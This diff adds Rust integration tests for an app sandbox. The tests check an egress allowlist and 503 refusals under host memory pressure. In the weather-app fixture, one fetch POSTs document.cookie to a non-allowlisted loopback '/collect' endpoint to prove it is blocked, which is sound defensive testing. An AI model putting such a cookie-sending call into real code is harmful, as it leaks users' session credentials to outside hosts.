@@ -360,3 +360,196 @@ async fn the_seed_limits_answer_429_with_their_reason() {
         started.elapsed()
     );
 }
+
+/// A loopback HTTP server standing in for a public API; counts the requests it gets.
+async fn stand_in_api() -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
+    use axum::routing::any;
+    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let counter = hits.clone();
+    let app = axum::Router::new().fallback(any(move |uri: axum::http::Uri| {
+        let counter = counter.clone();
+        async move {
+            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+            let city = uri
+                .query()
+                .and_then(|q| q.strip_prefix("city="))
+                .unwrap_or("?");
+            axum::Json(json!({ "city": city, "high": 14, "path": uri.path() }))
+        }
+    }));
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = listener.local_addr().unwrap().port();
+    tokio::spawn(async move { axum::serve(listener, app).await });
+    (port, hits)
+}
+
+fn weather_app(api: u16, other: u16) -> String {
+    format!(
+        r#"import {{ useEffect, useState }} from 'react';
+import {{ SandboxAPI }} from '@appbundle/runtime';
+
+const FORECAST_API = 'http://127.0.0.1:{api}';
+const OTHER_API = 'http://127.0.0.1:{other}';
+
+export default function WeatherCard() {{
+  const [forecast, setForecast] = useState('…');
+  const [other, setOther] = useState('…');
+  useEffect(() => {{
+    SandboxAPI.fetch(`${{FORECAST_API}}/v1/forecast?city=Oslo`, {{ headers: {{ accept: 'application/json' }} }})
+      .then((response) => response.json())
+      .then((data) => setForecast(`${{data.city}}: ${{data.high}}° (${{data.path}})`))
+      .catch((error) => setForecast(`error: ${{error.message}}`));
+    SandboxAPI.fetch(`${{OTHER_API}}/collect`, {{ method: 'POST', body: document.cookie }})
+      .then((response) => setOther(`answered ${{response.status}}`))
+      .catch((error) => setOther(`refused: ${{error.message}}`));
+  }}, []);
+  return (
+    <main className="p-6">
+      <h1 className="text-xl font-semibold">Weather</h1>
+      <p id="forecast">{{forecast}}</p>
+      <p id="other">{{other}}</p>
+    </main>
+  );
+}}
+"#
+    )
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn sandbox_fetch_reaches_allowlisted_hosts_only() {
+    let (api, api_hits) = stand_in_api().await;
+    let (other, other_hits) = stand_in_api().await;
+    let (base, _) = apps_server("egress", move |apps| {
+        apps.egress_allowed = vec![format!("127.0.0.1:{api}"), "*.example.com".into()];
+    })
+    .await;
+    let _cleanup = Cleanup(vec!["weather".into()]);
+    let files = json!({ "files": { "App.tsx": weather_app(api, other) } });
+
+    // An app may only name hosts within the operator's list.
+    let mut outside = files.clone();
+    outside["egress"] = json!([format!("127.0.0.1:{other}")]);
+    let refused = publish(&base, KEY, "weather", outside).await;
+    assert_eq!(refused.status(), StatusCode::FORBIDDEN);
+    assert!(refused
+        .text()
+        .await
+        .unwrap()
+        .contains("service's egress allowlist"));
+
+    let mut body = files.clone();
+    body["egress"] = json!([format!("127.0.0.1:{api}")]);
+    let view = publish_ok(&base, "weather", body).await;
+    assert_eq!(view["egress"], json!([format!("127.0.0.1:{api}")]));
+
+    let seen = node_script(
+        "page-texts.mjs",
+        vec![
+            format!("{base}/apps/weather/"),
+            "#forecast".into(),
+            "#other".into(),
+        ],
+    )
+    .await;
+    assert_eq!(seen["errors"], json!([]), "{seen}");
+    assert_eq!(
+        seen["texts"]["#forecast"], "Oslo: 14° (/v1/forecast)",
+        "{seen}"
+    );
+    let other_text = seen["texts"]["#other"].as_str().unwrap();
+    assert!(
+        other_text.starts_with("refused: ")
+            && other_text.contains(&format!(
+                "`127.0.0.1` is not in app `weather`'s egress allowlist (127.0.0.1:{api})"
+            )),
+        "{other_text}"
+    );
+    assert_eq!(api_hits.load(std::sync::atomic::Ordering::SeqCst), 1);
+    assert_eq!(other_hits.load(std::sync::atomic::Ordering::SeqCst), 0);
+
+    // The same through the API directly, and the count in /metrics.
+    let direct = http_post_json(
+        format!("{base}/apps/weather/api/egress"),
+        &json!({ "url": format!("http://127.0.0.1:{other}/x") }),
+    )
+    .await;
+    assert_eq!(direct.status(), StatusCode::FORBIDDEN);
+    let metrics = http_get(format!("{base}/metrics"))
+        .await
+        .text()
+        .await
+        .unwrap();
+    assert!(
+        metrics.contains("appbundle_app_egress_total{outcome=\"forwarded\"} 1"),
+        "{metrics}"
+    );
+    assert!(metrics.contains("appbundle_app_egress_total{outcome=\"refused\"} 2"));
+    assert_eq!(other_hits.load(std::sync::atomic::Ordering::SeqCst), 0);
+}
+
+/// Polls `/metrics` until the host-pressure gauge reads `value`.
+async fn wait_for_pressure(base: &str, value: u8) -> String {
+    let deadline = Instant::now() + Duration::from_secs(20);
+    loop {
+        let metrics = http_get(format!("{base}/metrics"))
+            .await
+            .text()
+            .await
+            .unwrap();
+        let wanted = format!("appbundle_host_under_pressure {value}");
+        if metrics.lines().any(|line| line == wanted) {
+            return metrics;
+        }
+        assert!(
+            Instant::now() < deadline,
+            "pressure never read {value}: {metrics}"
+        );
+        tokio::time::sleep(Duration::from_millis(200)).await;
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn new_starts_get_503_while_the_host_is_under_pressure() {
+    // A simulated small host: 4 MB for all apps, so one real app server is over 80 % of it.
+    let (base, _) = apps_server("pressure", |apps| {
+        apps.host_capacity = Some(appbundle_api::apps::pressure::HostCapacity {
+            cpus: 2.0,
+            memory_bytes: 4 << 20,
+        });
+        apps.pressure_interval = Duration::from_secs(1);
+    })
+    .await;
+    let _cleanup = Cleanup(vec!["busy-a".into(), "busy-b".into()]);
+    publish_ok(&base, "busy-a", board_files()).await;
+    let metrics = wait_for_pressure(&base, 1).await;
+    let memory_line = metrics
+        .lines()
+        .find(|l| l.starts_with("appbundle_apps_host_usage_ratio{resource=\"memory\"}"))
+        .unwrap();
+    println!("under pressure: {memory_line}");
+
+    let refused = publish(&base, BOB, "busy-b", board_files()).await;
+    assert_eq!(refused.status(), StatusCode::SERVICE_UNAVAILABLE);
+    assert_eq!(refused.headers()["retry-after"], "1");
+    let text = refused.text().await.unwrap();
+    assert!(
+        text.contains("the host is under pressure") && text.contains("over 80 %"),
+        "{text}"
+    );
+    // The running app keeps serving.
+    assert_eq!(
+        http_get(format!("{base}/apps/busy-a/")).await.status(),
+        StatusCode::OK
+    );
+
+    // Usage falls (the app is deleted): starts resume.
+    assert_eq!(
+        delete_app(&base, "busy-a").await.status(),
+        StatusCode::NO_CONTENT
+    );
+    wait_for_pressure(&base, 0).await;
+    assert_eq!(
+        publish(&base, BOB, "busy-b", board_files()).await.status(),
+        StatusCode::OK
+    );
+}
